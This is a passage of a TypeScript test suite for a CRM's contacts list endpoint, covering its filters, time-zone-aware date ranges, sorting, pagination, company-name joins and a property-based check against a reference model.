    const { caller } = await ownerOfNewOrganization();
    const zoe = await caller.contacts.create({ firstName: "Zoë", lastName: "Ångström" });
    expect(ids((await caller.contacts.list({ search: "zoe angs" })).items)).toEqual([zoe.id]);
  });
});

describe("contacts.list filters", () => {
  const filtered = async (caller: Caller, combinator: "and" | "or", ...conditions: unknown[]) =>
    namesOf(
      (
        await caller.contacts.list({
          filter: { combinator, conditions: conditions as NonNullable<RecordListInput["filter"]>["conditions"] },
        })
      ).items,
    );

  it("reads an owner of “@me” as whoever lists: one shared view shows each teammate their own contacts", async () => {
    const { caller: owner, org, identity } = await ownerOfNewOrganization();
    const { caller: member, identity: teammate } = await seedMember(org.id, "member");
    await owner.contacts.create({ firstName: "Mine", ownerId: identity.uid });
    await owner.contacts.create({ firstName: "Theirs", ownerId: teammate.uid });
    await owner.contacts.create({ firstName: "Nobody's" });
    const mine = { field: "ownerId", operator: "eq", value: VIEWER };
    expect(await filtered(owner, "and", mine)).toEqual(["Mine"]);
    expect(await filtered(member, "and", mine)).toEqual(["Theirs"]);
    expect(await filtered(member, "and", { field: "ownerId", operator: "neq", value: VIEWER })).toEqual([
      "Mine",
      "Nobody's",
    ]);
    expect(await filtered(member, "or", mine, { field: "ownerId", operator: "empty" })).toEqual(["Nobody's", "Theirs"]);
    expect(await filtered(owner, "and", { field: "ownerId", operator: "in", value: [VIEWER, teammate.uid] })).toEqual([
      "Mine",
      "Theirs",
    ]);
    // Only an owner means the reader: a name of "@me" is a name.
    expect(await filtered(owner, "and", { field: "firstName", operator: "eq", value: VIEWER })).toEqual([]);
  });

  it("supports eq, neq, contains, in, empty, notEmpty, gt and lt", async () => {
    const { caller } = await fourContacts();
    expect(await filtered(caller, "and", { field: "leadStatus", operator: "eq", value: "new" })).toEqual(["Ann", "Di"]);
    expect(await filtered(caller, "and", { field: "firstName", operator: "eq", value: "ANN" })).toEqual(["Ann"]);
    expect(await filtered(caller, "and", { field: "title", operator: "neq", value: "ceo" })).toEqual([
      "Bob",
      "Cy",
      "Di",
    ]);
    expect(await filtered(caller, "and", { field: "title", operator: "contains", value: "ENGINEER" })).toEqual([
      "Cy",
      "Di",
    ]);
    expect(
      await filtered(caller, "and", { field: "leadStatus", operator: "in", value: ["qualified", "customer"] }),
    ).toEqual(["Bob", "Cy"]);
    expect(await filtered(caller, "and", { field: "title", operator: "empty" })).toEqual(["Bob"]);
    expect(await filtered(caller, "and", { field: "email", operator: "notEmpty" })).toEqual(["Ann", "Bob", "Cy"]);
    expect(await filtered(caller, "and", { field: "leadScore", operator: "gt", value: 40 })).toEqual(["Bob", "Cy"]);
    expect(await filtered(caller, "and", { field: "leadScore", operator: "lt", value: 10 })).toEqual(["Di"]);
  });

  it("finds the records whose ids are asked for (a table's selection, exported), never another organization's nor a deleted one", async () => {
    const { caller, ann, cy, di } = await fourContacts();
    const other = await ownerOfNewOrganization("Other Org");
    const theirs = await other.caller.contacts.create({ firstName: "Theirs" });
    await caller.contacts.delete({ ids: [di.id] });
    expect(
      await filtered(caller, "and", { field: "id", operator: "in", value: [cy.id, theirs.id, ann.id, di.id] }),
    ).toEqual(["Ann", "Cy"]);
    expect(await filtered(other.caller, "and", { field: "id", operator: "in", value: [ann.id, cy.id] })).toEqual([]);
  });

  it('takes as many values in an "in" as a filter holds (100), more than D1 binds beside the rest of the statement', async () => {
    const { caller } = await ownerOfNewOrganization();
    const created = await Promise.all(
      Array.from({ length: 100 }, (_, i) => caller.contacts.create({ firstName: `P${String(i).padStart(3, "0")}` })),
    );
    const page = await caller.contacts.list({
      limit: 200,
      filter: { combinator: "and", conditions: [{ field: "id", operator: "in", value: ids(created) }] },
    });
    expect(page.items).toHaveLength(100);
    expect(page.total).toEqual({ count: 100, exact: true });
    const names = created.slice(0, 99).map((c) => c.firstName.toUpperCase());
    const byName = await caller.contacts.list({
      limit: 200,
      filter: { combinator: "and", conditions: [{ field: "firstName", operator: "in", value: [...names, "nobody"] }] },
    });
    expect(byName.total).toEqual({ count: 99, exact: true });
  });

  it("matches 'contains' on text of any length the filter takes, with %, _ and \\ as themselves", async () => {
    const { caller } = await ownerOfNewOrganization();
    const long = "Senior Vice President of Global Enterprise Partnerships, EMEA and APAC"; // 70 bytes
    await caller.contacts.create({ firstName: "Ann", title: long });
    await caller.contacts.create({ firstName: "Bob", title: "100% on_call \\ ops" });
    await caller.contacts.create({ firstName: "Cy", title: "1000 oncall ops" });
    // D1 refuses a LIKE pattern over 50 bytes: such a value used to fail the list as a server error.
    expect(await filtered(caller, "and", { field: "title", operator: "contains", value: long.toUpperCase() })).toEqual([
      "Ann",
    ]);
    expect(await filtered(caller, "and", { field: "title", operator: "contains", value: "x".repeat(500) })).toEqual([]);
    for (const value of ["0%", "n_c", "\\"])
      expect(await filtered(caller, "and", { field: "title", operator: "contains", value })).toEqual(["Bob"]);
    expect(
      await filtered(caller, "and", { field: "title", operator: "contains", value: "" }),
      "an empty text is in every title",
    ).toEqual(["Ann", "Bob", "Cy"]);
  });

  it("refuses a date filter on a number past any date, not as a server error", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await defineProperty(org.id, "contact", { key: "renewal", label: "Renewal", type: "date" });
    await caller.contacts.create({ firstName: "Ann", properties: { renewal: "2025-03-01" } });
    for (const field of ["prop:renewal", "createdAt"])
      await expectTRPCError(
        filtered(caller, "and", { field, operator: "before", value: 1e20 }),
        "BAD_REQUEST",
        '"100000000000000000000" is not a date.',
      );
    expect(
      await filtered(caller, "and", { field: "prop:renewal", operator: "before", value: Date.UTC(2100, 0, 1) }),
    ).toEqual(["Ann"]);
  });

  it("supports before and after on createdAt", async () => {
    const { caller } = await fourContacts();
    expect(await filtered(caller, "and", { field: "createdAt", operator: "after", value: "2024-12-31" })).toEqual([
      "Cy",
      "Di",
    ]);
    expect(
      await filtered(caller, "and", { field: "createdAt", operator: "before", value: "2024-03-01T00:00:00Z" }),
    ).toEqual(["Ann"]);
  });

  it("counts days from the caller's today, in their time zone: in the last N days, more than N days ago", async () => {
    const HOUR = 3_600_000;
    await clearOfMidnight(0);
    await clearOfMidnight(5.5);
    // Kolkata is 5:30 ahead of UTC all year: where its days start is plain arithmetic.
    const kolkataToday = Date.parse(new Date(Date.now() + 5.5 * HOUR).toISOString().slice(0, 10)) - 5.5 * HOUR;
    const weekAgo = kolkataToday - 7 * 24 * HOUR;
    const { caller } = await fourContacts();
    const [ann, bob, cy] = (await caller.contacts.list({})).items;
    await setCreatedAt("contacts", ann!.id, new Date().toISOString());
    // The first instant of the day a week ago in Kolkata, and the last of the day before.
    await setCreatedAt("contacts", bob!.id, new Date(weekAgo).toISOString());
    await setCreatedAt("contacts", cy!.id, new Date(weekAgo - 1).toISOString());
    // Di keeps 2025-06-01.
    const inZone = async (timeZone: string | undefined, ...conditions: unknown[]) =>
      namesOf(
        (
          await caller.contacts.list({
            timeZone,
            filter: {
              combinator: "and",
              conditions: conditions as NonNullable<RecordListInput["filter"]>["conditions"],
            },
          })
        ).items,
      );
    const last7 = { field: "createdAt", operator: "inLastDays", value: 7 };
    const past7 = { field: "createdAt", operator: "moreThanDaysAgo", value: 7 };
    expect(await inZone("Asia/Kolkata", last7)).toEqual(["Ann", "Bob"]);
    expect(await inZone("Asia/Kolkata", past7)).toEqual(["Cy", "Di"]);
    // In UTC the day a week ago starts 5:30 later, while both zones are on the same date: Bob's 18:30 (UTC) is still
    // the day before it. From 18:30 UTC on, Kolkata is a day ahead, and UTC's week ago starts 18:30 earlier than
    // Kolkata's: Bob and Cy are within it.
    const kolkataAhead = new Date(Date.now() + 5.5 * HOUR).getUTCDate() !== new Date().getUTCDate();
    expect(await inZone(undefined, last7)).toEqual(kolkataAhead ? ["Ann", "Bob", "Cy"] : ["Ann"]);
    expect(await inZone("UTC", past7)).toEqual(kolkataAhead ? ["Di"] : ["Bob", "Cy", "Di"]);
    expect(await inZone("Asia/Kolkata", { ...last7, value: 3650 })).toEqual(["Ann", "Bob", "Cy", "Di"]);
    // Or'ed with another condition, the range stays whole.
    expect(
      namesOf(
        (
          await caller.contacts.list({
            timeZone: "Asia/Kolkata",
            filter: {
              combinator: "or",
              conditions: [
                { field: "createdAt", operator: "inLastDays", value: 1 },
                { field: "title", operator: "eq", value: "cEO" },
              ],
            },
          })
        ).items,
      ),
    ).toEqual(["Ann"]);
    // Nothing created in the days to come.
    expect(await inZone("Asia/Kolkata", { field: "createdAt", operator: "inNextDays", value: 30 })).toEqual(["Ann"]);
    // clearOfMidnight may wait up to 61 s, past the 15 s a test is given.
  }, 90_000);

  it("counts days on a custom date from today: in the last N days, more than N days ago, in the next N days", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await defineProperty(org.id, "contact", { key: "renewal", label: "Renewal", type: "date" });
    // Days in Pacific/Kiritimati, 14 hours ahead of UTC all year.
    await clearOfMidnight(14);
    const day = (days: number) => new Date(Date.now() + 14 * 3_600_000 + days * 86_400_000).toISOString().slice(0, 10);
    for (const [firstName, days] of [
      ["Ann", -8],
      ["Bob", -7],
      ["Cy", 0],
      ["Di", 7],
      ["Ed", 8],
    ] as const)
      await caller.contacts.create({ firstName, properties: { renewal: day(days) } });
    await caller.contacts.create({ firstName: "Flo" });
    const renewal = async (operator: string, value: number) =>
      namesOf(
        (
          await caller.contacts.list({
            timeZone: "Pacific/Kiritimati",
            filter: {
              combinator: "and",
              conditions: [{ field: "prop:renewal", operator, value } as FilterCondition],
            },
          })
        ).items,
      );
    expect(await renewal("inLastDays", 7)).toEqual(["Bob", "Cy"]);
    expect(await renewal("moreThanDaysAgo", 7)).toEqual(["Ann"]);
    expect(await renewal("inNextDays", 7)).toEqual(["Cy", "Di"]);
    // clearOfMidnight may wait up to 61 s, past the 15 s a test is given.
  }, 90_000);

  it("refuses to count days on what is not a date, or a count of days that is not 1 to 3,650", async () => {
    const { caller } = await fourContacts();
    await expectTRPCError(
      filtered(caller, "and", { field: "tags", operator: "inLastDays", value: 7 }),
      "BAD_REQUEST",
      "Only a date can be compared with a number of days.",
    );
    for (const value of [0, 3651, 1.5, "soon", [7], undefined])
      await expectTRPCError(
        filtered(caller, "and", { field: "lastActivityAt", operator: "moreThanDaysAgo", value }),
        "BAD_REQUEST",
        "Enter a whole number of days from 1 to 3,650.",
      );
    // Over HTTP, as the web asks: the field's own words.
    const { identity } = await ownerOfNewOrganization();
    await expectTRPCError(
      (await httpClientFor(identity)).contacts.list.query({
        timeZone: "Mars/Olympus",
        filter: { combinator: "and", conditions: [{ field: "createdAt", operator: "inLastDays", value: 7 }] },
      }),
      "BAD_REQUEST",
      "Choose a valid time zone.",
    );
  });

  it("matches tags case-insensitively, any element", async () => {
    const { caller } = await fourContacts();
    expect(await filtered(caller, "and", { field: "tags", operator: "eq", value: "VIP" })).toEqual(["Ann", "Bob"]);
    expect(await filtered(caller, "and", { field: "tags", operator: "in", value: ["beta"] })).toEqual(["Bob", "Di"]);
    expect(await filtered(caller, "and", { field: "tags", operator: "empty" })).toEqual(["Cy"]);
  });

  it("combines conditions with and / or", async () => {
    const { caller } = await fourContacts();
    expect(
      await filtered(
        caller,
        "and",
        { field: "leadStatus", operator: "eq", value: "new" },
        { field: "leadScore", operator: "gt", value: 5 },
      ),
    ).toEqual(["Ann"]);
    expect(
      await filtered(
        caller,
        "or",
        { field: "tags", operator: "eq", value: "beta" },
        { field: "title", operator: "contains", value: "ceo" },
      ),
    ).toEqual(["Ann", "Bob", "Di"]);
    expect(
      await filtered(
        caller,
        "and",
        { field: "createdAt", operator: "after", value: "2024-03-01" },
        { field: "title", operator: "notEmpty" },
        { field: "tags", operator: "notEmpty" },
      ),
    ).toEqual(["Di"]);
  });

  it("filters on a custom property", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await defineProperty(org.id, "contact", { key: "seats", label: "Seats", type: "number" });
    await defineProperty(org.id, "contact", { key: "renewal", label: "Renewal", type: "date" });
    await caller.contacts.create({ firstName: "Ann", properties: { seats: 5, renewal: "2025-03-01" } });
    await caller.contacts.create({ firstName: "Bob", properties: { seats: 50, renewal: "2026-01-15" } });
    await caller.contacts.create({ firstName: "Cy" });
    expect(await filtered(caller, "and", { field: "prop:seats", operator: "gt", value: 10 })).toEqual(["Bob"]);
    expect(await filtered(caller, "and", { field: "prop:seats", operator: "empty" })).toEqual(["Cy"]);
    expect(await filtered(caller, "and", { field: "prop:renewal", operator: "before", value: "2025-06-01" })).toEqual([
      "Ann",
    ]);
    expect(await filtered(caller, "and", { field: "prop:renewal", operator: "after", value: "2025-06-01" })).toEqual([
      "Bob",
    ]);
  });

  it("is BAD_REQUEST for an unknown field, a missing value, a bad number or date, and a bad cursor", async () => {
    const { caller } = await fourContacts();
    await expectTRPCError(
      filtered(caller, "and", { field: "shoeSize", operator: "eq", value: 1 }),
      "BAD_REQUEST",
      'There is no field "shoeSize" to filter or sort on.',
    );
    await expectTRPCError(
      filtered(caller, "and", { field: "prop:nothing", operator: "eq", value: 1 }),
      "BAD_REQUEST",
      'There is no field "prop:nothing" to filter or sort on.',
    );
    await expectTRPCError(
      filtered(caller, "and", { field: "title", operator: "eq" }),
      "BAD_REQUEST",
      "Choose one value to compare with.",
    );
    await expectTRPCError(
      filtered(caller, "and", { field: "leadScore", operator: "gt", value: "lots" }),
      "BAD_REQUEST",
      '"lots" is not a number.',
    );
    for (const value of ["someday", "2026-02-30", "1"])
      await expectTRPCError(
        filtered(caller, "and", { field: "createdAt", operator: "before", value }),
        "BAD_REQUEST",
        `"${value}" is not a date.`,
      );
    await expectTRPCError(
      caller.contacts.list({ cursor: "not-a-cursor" }),
      "BAD_REQUEST",
      "That page link is no longer valid. Reload the list.",
    );
    await expectTRPCError(caller.contacts.list({ sort: { field: "nope", direction: "asc" } }), "BAD_REQUEST");
  });
});

describe("contacts.list sort", () => {
  const sorted = async (caller: Caller, field: string, direction: "asc" | "desc") =>
    namesOf((await caller.contacts.list({ sort: { field, direction } })).items);

  it("sorts by name (the default) both ways", async () => {
    const { caller } = await fourContacts();
    expect(namesOf((await caller.contacts.list({})).items)).toEqual(["Ann", "Bob", "Cy", "Di"]);
    expect(await sorted(caller, "name", "asc")).toEqual(["Ann", "Bob", "Cy", "Di"]);
    expect(await sorted(caller, "name", "desc")).toEqual(["Di", "Cy", "Bob", "Ann"]);
  });

  it("sorts by leadScore and createdAt", async () => {
    const { caller } = await fourContacts();
    expect(await sorted(caller, "leadScore", "asc")).toEqual(["Di", "Ann", "Bob", "Cy"]);
    expect(await sorted(caller, "leadScore", "desc")).toEqual(["Cy", "Bob", "Ann", "Di"]);
    expect(await sorted(caller, "createdAt", "desc")).toEqual(["Di", "Cy", "Bob", "Ann"]);
  });

  it("puts empty titles last in both directions", async () => {
    const { caller } = await fourContacts();
    expect(await sorted(caller, "title", "asc")).toEqual(["Ann", "Di", "Cy", "Bob"]);
    expect(await sorted(caller, "title", "desc")).toEqual(["Cy", "Di", "Ann", "Bob"]);
  });

  it("sorts by a custom property, unset values last", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await defineProperty(org.id, "contact", { key: "seats", label: "Seats", type: "number" });
    await caller.contacts.create({ firstName: "Ann", properties: { seats: 300 } });
    await caller.contacts.create({ firstName: "Bob" });
    await caller.contacts.create({ firstName: "Cy", properties: { seats: 7 } });
    await caller.contacts.create({ firstName: "Di", properties: { seats: 42 } });
    expect(await sorted(caller, "prop:seats", "asc")).toEqual(["Cy", "Di", "Ann", "Bob"]);
    expect(await sorted(caller, "prop:seats", "desc")).toEqual(["Ann", "Di", "Cy", "Bob"]);
    expect(ids(await allPages(listOf(caller), { sort: { field: "prop:seats", direction: "desc" } }, 1))).toEqual(
      ids((await caller.contacts.list({ sort: { field: "prop:seats", direction: "desc" } })).items),
    );
  });
});

describe("contacts.list pagination", () => {
  it("walks every matching row exactly once, in order, 7 at a time", async () => {
    const { caller } = await ownerOfNewOrganization();
    const titles = [null, "Analyst", "analyst", "Zoë's deputy", "CEO"];
    for (let i = 0; i < 30; i++)
      await caller.contacts.create({
        firstName: ["Ann", "Bob", "Zoë", "李"][i % 4],
        lastName: `N${i % 5}`,
        title: titles[i % titles.length],
        leadScore: (i * 7) % 4,
        leadStatus: i % 3 === 0 ? "qualified" : "new",
      });
    const inputs: RecordListInput[] = [
      {},
      { sort: { field: "name", direction: "desc" } },
      { sort: { field: "leadScore", direction: "asc" } },
      { sort: { field: "title", direction: "asc" } },
      { sort: { field: "title", direction: "desc" } },
      {
        sort: { field: "leadScore", direction: "desc" },
        filter: { combinator: "and", conditions: [{ field: "leadStatus", operator: "eq", value: "new" }] },
      },
      { search: "ann" },
    ];
    for (const input of inputs) {
      const whole = (await caller.contacts.list({ ...input, limit: 200 })).items;
      const walked = await allPages(listOf(caller), input, 7);
      expect(ids(walked), JSON.stringify(input)).toEqual(ids(whole));
      expect(new Set(ids(walked)).size).toBe(walked.length);
    }
    expect((await allPages(listOf(caller), {}, 7)).length).toBe(30);
  });
});

describe("contacts.list companyName", () => {
  /** Ann at Acme, Bob at Globex, Cy without a company; `tier` to sort by a custom property. */
  async function peopleAtCompanies() {
    const owner = await ownerOfNewOrganization();
    await defineProperty(owner.org.id, "contact", { key: "tier", label: "Tier", type: "text" });
    const acme = await owner.caller.companies.create({ name: "Acme" });
    const globex = await owner.caller.companies.create({ name: "Globex" });
    const ann = await owner.caller.contacts.create({ firstName: "Ann", companyId: acme.id, properties: { tier: "a" } });
    const bob = await owner.caller.contacts.create({
      firstName: "Bob",
      companyId: globex.id,
      properties: { tier: "b" },
    });
    const cy = await owner.caller.contacts.create({ firstName: "Cy" });
    return { ...owner, acme, globex, ann, bob, cy };
  }
  const companyNames = (items: { firstName: string; companyName: string | null }[]) =>
    Object.fromEntries(items.map((c) => [c.firstName, c.companyName]));

  it("is typed string | null on list rows", () => {
    type Row = Awaited<ReturnType<Caller["contacts"]["list"]>>["items"][number];
    expectTypeOf<Row["companyName"]>().toEqualTypeOf<string | null>();
  });

  it("names a live company of the organization on every kind of page, null without one", async () => {
    const { caller, ann } = await peopleAtCompanies();
    const expected = { Ann: "Acme", Bob: "Globex", Cy: null };
    expect(companyNames((await caller.contacts.list({})).items)).toEqual(expected);
    // Page by page (the cursor pages), sorted by a custom property, filtered, searched (best matches).
    expect(companyNames(await allPages(listOf(caller), {}, 1))).toEqual(expected);
    expect(
      companyNames(await allPages(listOf(caller), { sort: { field: "prop:tier", direction: "desc" } }, 1)),
    ).toEqual(expected);
    expect(
      companyNames(
        (
          await caller.contacts.list({
            filter: { combinator: "and", conditions: [{ field: "firstName", operator: "neq", value: "x" }] },
          })
        ).items,
      ),
    ).toEqual(expected);
    expect(companyNames((await caller.contacts.list({ search: "ann" })).items)).toEqual({ Ann: "Acme" });
    expect(companyNames((await caller.contacts.list({ search: "ann", limit: 1 })).items)).toEqual({ Ann: "Acme" });
    // The trash too.
    await caller.contacts.delete({ ids: [ann.id] });
    expect(companyNames((await caller.contacts.list({ trash: true })).items)).toEqual({ Ann: "Acme" });
  });

  it("is null while the company is in the trash, and the name again once it is restored", async () => {
    const { caller, acme } = await peopleAtCompanies();
    await caller.companies.delete({ ids: [acme.id] });
    expect(companyNames((await caller.contacts.list({})).items)).toEqual({ Ann: null, Bob: "Globex", Cy: null });
    await caller.companies.restore({ id: acme.id });
    expect(companyNames((await caller.contacts.list({})).items)).toEqual({ Ann: "Acme", Bob: "Globex", Cy: null });
  });

  it("is null when the company belongs to another organization", async () => {
    const { caller, globex } = await peopleAtCompanies();
    const other = await ownerOfNewOrganization("Other");
    await env.DB.prepare("UPDATE companies SET organization_id = ? WHERE id = ?").bind(other.org.id, globex.id).run();
    expect(companyNames((await caller.contacts.list({})).items)).toEqual({ Ann: "Acme", Bob: null, Cy: null });
    expect(companyNames(await allPages(listOf(caller), { sort: { field: "prop:tier", direction: "asc" } }, 2))).toEqual(
      { Ann: "Acme", Bob: null, Cy: null },
    );
  });

  it("follows a rename of the company and a change of the contact's company", async () => {
    const { caller, acme, globex, ann } = await peopleAtCompanies();
    await caller.companies.update({ id: acme.id, version: 1, patch: { name: "Acme Inc" } });
    expect(companyNames((await caller.contacts.list({})).items).Ann).toBe("Acme Inc");
    await caller.contacts.update({ id: ann.id, version: 1, patch: { companyId: globex.id } });
    expect(companyNames((await caller.contacts.list({})).items).Ann).toBe("Globex");
  });

  it("comes with the contact from create, update, restore and get, so it can stand in a list", async () => {
    const { caller, acme, globex } = await peopleAtCompanies();
    const dee = await caller.contacts.create({ firstName: "Dee", companyId: acme.id });
    expect(dee.companyName).toBe("Acme");
    const moved = await caller.contacts.update({ id: dee.id, version: 1, patch: { companyId: globex.id } });
    expect(moved.companyName).toBe("Globex");
    // An update that changes nothing returns the contact as it is, with its company's name too.
    expect((await caller.contacts.update({ id: dee.id, version: 2, patch: { firstName: "Dee" } })).companyName).toBe(
      "Globex",
    );
    expect((await caller.contacts.get({ id: dee.id })).contact).toEqual(moved);
    const listed = (await caller.contacts.list({ search: "dee" })).items[0];
    expect(listed).toEqual(
      Object.fromEntries(
        Object.entries(moved).filter(([key]) => !["seq", "sortName", "organizationId", "createdBy"].includes(key)),
      ),
    );
    await caller.contacts.delete({ ids: [dee.id] });
    expect((await caller.contacts.restore({ id: dee.id })).companyName).toBe("Globex");
    const cyrus = await caller.contacts.create({ firstName: "Cyrus" });
    expect(cyrus.companyName).toBeNull();
  });
});

describe("contacts.list against a reference model (property-based)", () => {
  type Seeded = {
    id: string;
    firstName: string;
    sortName: string;
    title: string | null;
    leadScore: number;
    leadStatus: string;
    createdAt: number;
    tags: string[];
    companyId: string | null;
    /** Its company's name lower-cased while the company is live: what a sort by company orders by. */
    companySort: string | null;
    primaryEmail: string | null;
  } & Partial<ReturnType<typeof contactSortKeys>>;
  /** Companies for the contacts: two of one name in different case (ties), and one in the trash. */
  const companyRows = [
    { id: "cmp_seed_acme1", name: "Acme", deleted: false },
    { id: "cmp_seed_acme2", name: "ACME", deleted: false },
    { id: "cmp_seed_beta", name: "Beta Ltd", deleted: false },
    { id: "cmp_seed_gone", name: "Aaron & Co", deleted: true },
  ];
  const statuses = ["new", "contacted", "qualified", "unqualified", "customer"] as const;
  const titleWords = ["CEO", "cto", "Engineer", "engineer", "Zoë", "Buyer", "Head of Sales"];

  const HOUR = 3_600_000;
  const seededAt = Date.now();
  /** The time zones a list is asked in, at their offsets (neither has daylight saving time). */
  const zoneOffsets = { UTC: 0, "Asia/Kolkata": 5.5 * HOUR } as const;
  /** When the day `days` from today starts in a zone, worked out from its fixed offset. */
  const dayStart = (zone: keyof typeof zoneOffsets, days: number) => {
    const offset = zoneOffsets[zone];
    const today = Date.parse(new Date(Date.now() + offset).toISOString().slice(0, 10));
    return today + days * 24 * HOUR - offset;
  };

  /** 150 contacts written straight to D1 (the FTS triggers still run), with many ties. */
  async function seed(organizationId: string): Promise<Seeded[]> {
    const random = fc.sample(
      fc.record({
        firstName: fc.constantFrom("Ann", "ann", "Bob", "Zoë", "Cy", "Éva", "Dan"),
        lastName: fc.constantFrom("Lee", "Stone", "", "Park"),
        title: fc.option(fc.constantFrom(...titleWords), { nil: null, freq: 3 }),
        leadScore: fc.integer({ min: 0, max: 20 }),
        leadStatus: fc.constantFrom(...statuses),
        // Every 6 hours over the last ten days, for the filters that count days from today.
        createdAt: fc.integer({ min: 0, max: 40 }).map((quarter) => seededAt - quarter * 6 * HOUR),
        // Case variants of one tag, on one record too (the tag filters read record_tags).
        tags: fc.subarray(["VIP", "vip", "beta", "Beta", "gamma", "zoë"], { maxLength: 3 }),
        company: fc.option(fc.constantFrom(...companyRows), { nil: null, freq: 4 }),
        // A third without an email (listed by name after the others); the rest unique, not in id order.
        mailbox: fc.option(fc.constantFrom("zed", "amy", "kim", "bo"), { nil: null, freq: 3 }),
      }),
      { numRuns: 150, seed: 42 },
    );
    const seeded = random
      .map(({ company, mailbox, ...r }, i) => ({
        ...r,
        // Its organization's in the id: a test may seed more than one.
        id: `con_${organizationId.slice(4, 10)}${String(i).padStart(10, "0")}`,
        primaryEmail: mailbox && `${mailbox}.${i}@example.com`,
        sortName: `${r.firstName} ${r.lastName}`.trim().toLowerCase(),
        companyId: company?.id ?? null,
        companySort: company && !company.deleted ? company.name.toLowerCase() : null,
      }))
      .map((c) => ({ ...c, ...contactSortKeys(c) }));
    // Company ids are unique across organizations: each run's own.
    const companyId = (id: string) => `${id}_${organizationId}`;
    await env.DB.batch([
      ...companyRows.map((c) =>
        env.DB.prepare(
          `INSERT INTO companies (id, organization_id, name, deleted_at, created_by, created_at, updated_at)
             VALUES (?, ?, ?, ?, 'seed', 0, 0)`,
        ).bind(companyId(c.id), organizationId, c.name, c.deleted ? 1 : null),
      ),
      ...seeded.map((c) =>
        contactInsert(organizationId, {
          id: c.id,
          first_name: c.firstName,
          last_name: c.lastName,
          sort_name: c.sortName,
          title: c.title,
          lead_score: c.leadScore,
          lead_status: c.leadStatus,
          tags: JSON.stringify(c.tags),
          company_id: c.companyId && companyId(c.companyId),
          primary_email: c.primaryEmail,
          emails: JSON.stringify(c.primaryEmail ? [c.primaryEmail] : []),
          created_at: c.createdAt,
          updated_at: c.createdAt,
        }),
      ),
    ]);
    return seeded;
  }

  const sortFields = {
    name: "sortName",
    leadScore: "scoreSortKey",
    title: "titleSortKey",
    leadStatus: "statusSortKey",
    createdAt: "createdAt",
    company: "companySortKey",
    email: "primaryEmail",
  } as const;
  type Condition = { field: string; operator: string; value?: unknown };

  const hasTag = (c: Seeded, values: string[]) =>
    c.tags.some((t) => values.some((v) => t.toLowerCase() === v.toLowerCase()));

  function matches(c: Seeded, { field, operator, value }: Condition, zone: keyof typeof zoneOffsets): boolean {
    switch (`${field}:${operator}`) {
      case "createdAt:inLastDays":
        return c.createdAt >= dayStart(zone, -(value as number)) && c.createdAt < dayStart(zone, 1);
      case "createdAt:moreThanDaysAgo":
        return c.createdAt < dayStart(zone, -(value as number));
      case "leadStatus:eq":
        return c.leadStatus === value;
      case "leadStatus:in":
        return (value as string[]).includes(c.leadStatus);
      case "leadScore:gt":
        return c.leadScore > (value as number);
      case "leadScore:lt":
        return c.leadScore < (value as number);
      case "title:contains":
        return (c.title ?? "").toLowerCase().includes((value as string).toLowerCase());
      case "title:empty":
        return !c.title;
      case "title:notEmpty":
        return Boolean(c.title);
      case "firstName:eq":
        return c.firstName.toLowerCase() === (value as string).toLowerCase();
      case "tags:contains":
      case "tags:eq":
        return hasTag(c, [value as string]);
      case "tags:neq":
        return !hasTag(c, [value as string]);
      case "tags:in":
        return hasTag(c, value as string[]);
      case "tags:empty":
        return c.tags.length === 0;
      case "tags:notEmpty":
        return c.tags.length > 0;
      case "company:contains":
        return (c.companySort ?? "").includes((value as string).toLowerCase());
      case "company:empty":
        return c.companySort === null;
    }
    throw new Error(`no reference for ${field}:${operator}`);
  }

  const condition: fc.Arbitrary<Condition> = fc.oneof(
    fc.record({ field: fc.constant("leadStatus"), operator: fc.constant("eq"), value: fc.constantFrom(...statuses) }),
    fc.record({
      field: fc.constant("leadStatus"),
      operator: fc.constant("in"),
      value: fc.uniqueArray(fc.constantFrom(...statuses), { minLength: 1, maxLength: 3 }),
    }),
    fc.record({
      field: fc.constant("leadScore"),
      operator: fc.constantFrom("gt", "lt"),
      value: fc.integer({ min: -1, max: 21 }),
    }),
    fc.record({
      field: fc.constant("title"),
      operator: fc.constant("contains"),
      value: fc.constantFrom("e", "ENG", "of s", "o"),
    }),
    fc.record({ field: fc.constant("title"), operator: fc.constantFrom("empty", "notEmpty") }),
    fc.record({
      field: fc.constant("firstName"),
      operator: fc.constant("eq"),
      value: fc.constantFrom("ANN", "bob", "Zoë"),
    }),
    fc.record({
      field: fc.constant("tags"),
      operator: fc.constantFrom("contains", "eq", "neq"),
      value: fc.constantFrom("vip", "VIP", "Beta", "gamma", "ZOË", "none"),
    }),
    fc.record({
      field: fc.constant("tags"),
      operator: fc.constant("in"),
      value: fc.uniqueArray(fc.constantFrom("Vip", "beta", "zoë", "none"), { minLength: 1, maxLength: 3 }),
    }),
    fc.record({ field: fc.constant("tags"), operator: fc.constantFrom("empty", "notEmpty") }),
    // A trashed company's name matches nothing: its people count as having no company.
    fc.record({
      field: fc.constant("company"),
      operator: fc.constant("contains"),
      value: fc.constantFrom("acm", "BETA", "aaron"),
    }),
    fc.record({ field: fc.constant("company"), operator: fc.constant("empty") }),
    fc.record({
      field: fc.constant("createdAt"),
      operator: fc.constantFrom("inLastDays", "moreThanDaysAgo"),
      value: fc.integer({ min: 1, max: 11 }),
    }),
  );

  it("returns the same rows in the same order as an in-memory sort and filter, for any page size", async () => {
    // The server and the model each read today: not across a midnight of either zone.
    for (const offset of Object.values(zoneOffsets)) await clearOfMidnight(offset / HOUR);
    const { caller, org } = await ownerOfNewOrganization();
    const seeded = await seed(org.id);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...(Object.keys(sortFields) as (keyof typeof sortFields)[])),
        fc.constantFrom("asc" as const, "desc" as const),
        // A condition or two, or as many as a filter holds (20): the statement repeats each in its
        // page and count, and must stay within D1's 100 bound parameters.
        fc.oneof(
          fc.array(condition, { minLength: 1, maxLength: 2 }),
          fc.array(condition, { minLength: 12, maxLength: MAX_FILTER_CONDITIONS }),
        ),
        fc.constantFrom("and" as const, "or" as const),
        fc.integer({ min: 1, max: 40 }),
        fc.constantFrom(...(Object.keys(zoneOffsets) as (keyof typeof zoneOffsets)[])),
        async (field, direction, conditions, combinator, limit, zone) => {
          const key = sortFields[field];
          const expected = sortedLikeAList(
            seeded.filter((c) =>
              combinator === "and"
                ? conditions.every((k) => matches(c, k, zone))
                : conditions.some((k) => matches(c, k, zone)),
            ),
            key,
            direction,
            // Empty titles, companies and emails by name (their indexes hold it); ties of the others are the same name.
